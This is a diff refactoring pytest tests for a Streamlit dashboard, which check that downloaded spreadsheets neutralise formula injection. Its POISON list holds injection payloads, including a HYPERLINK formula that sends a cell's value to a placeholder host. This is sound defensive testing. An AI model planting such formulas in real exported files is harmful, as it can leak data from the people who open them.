@@ -12,8 +12,8 @@ from pathlib import Path
 import openpyxl
 import pandas as pd
 import pytest
+from helpers import READING_PAGES, app_test, open_page
 from streamlit.elements.widgets import button
-from streamlit.testing.v1 import AppTest
 
 from dashboard import registry
 from qmi_metrics.admin import auth, cells, importing, readers, templates
@@ -26,7 +26,6 @@ DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
 POISON = ('=HYPERLINK("http://x";"a")', '+(HYPERLINK("http://x"&B2;"Cliquez ici"))', "-(1+1)", "@SUM(1)", "\tx",
           "\rx")
 PASSWORD = "un mot de passe assez long"
-PAGES = [name for name in registry.NAMES if name not in ("presentation", "administration")]  # the reading pages
 # Data text the pages show in tables: each gets a formula in front of what it said.
 POISONED = {
     "projects": ("name", "operator", "subtype_fr", "description_fr", "lessons_fr"),
@@ -128,21 +127,18 @@ def produced(seen: dict) -> dict[str, bytes]:
 
 
 def test_every_download_of_every_page_is_inert(monkeypatch, poisoned_db, downloads):
-    monkeypatch.setenv("QMI_DB", str(poisoned_db))
-    at = AppTest.from_file("../app.py", default_timeout=120).run()
+    at = app_test(monkeypatch, poisoned_db, timeout=120).run()
     assert not at.exception, at.exception
     files: dict[str, bytes] = {}
-    for page in PAGES:
-        at.switch_page(f"dashboard/{page}.py")
+    for page in READING_PAGES:
+        at.switch_page(registry.page(page).file)
         for edition in ("all", 1):
             at.session_state["f_edition"] = edition
             at.run()
             assert not at.exception, (page, at.exception)
             files.update(produced(downloads))
             downloads.clear()
-    at = AppTest.from_file("../app.py", default_timeout=120)
-    at.query_params["projet"] = "purple"
-    at.run().switch_page("dashboard/projets.py").run()
+    at = open_page(monkeypatch, poisoned_db, "projets", timeout=120, projet="purple")
     assert not at.exception, at.exception
     files.update(produced(downloads))
     assert len(files) > 40 and any("modele_import" in n for n in files), sorted(files)
@@ -160,10 +156,8 @@ def test_every_download_of_every_page_is_inert(monkeypatch, poisoned_db, downloa
 def test_administration_downloads_are_inert(monkeypatch, poisoned_db, tmp_path, downloads):
     live = tmp_path / "qmi.duckdb"
     shutil.copy(poisoned_db, live)
-    monkeypatch.setenv("QMI_DB", str(live))
-    at = AppTest.from_file("../app.py", default_timeout=120)
-    at.secrets["admin"] = {"password_hash": auth.hash_password(PASSWORD)}
-    at.run().switch_page("dashboard/administration.py").run()
+    at = open_page(monkeypatch, live, "administration", timeout=120,
+                   secrets={"admin": {"password_hash": auth.hash_password(PASSWORD)}})
     at.text_input[0].input(PASSWORD)
     at.button[0].click().run()
     assert not at.exception, at.exception
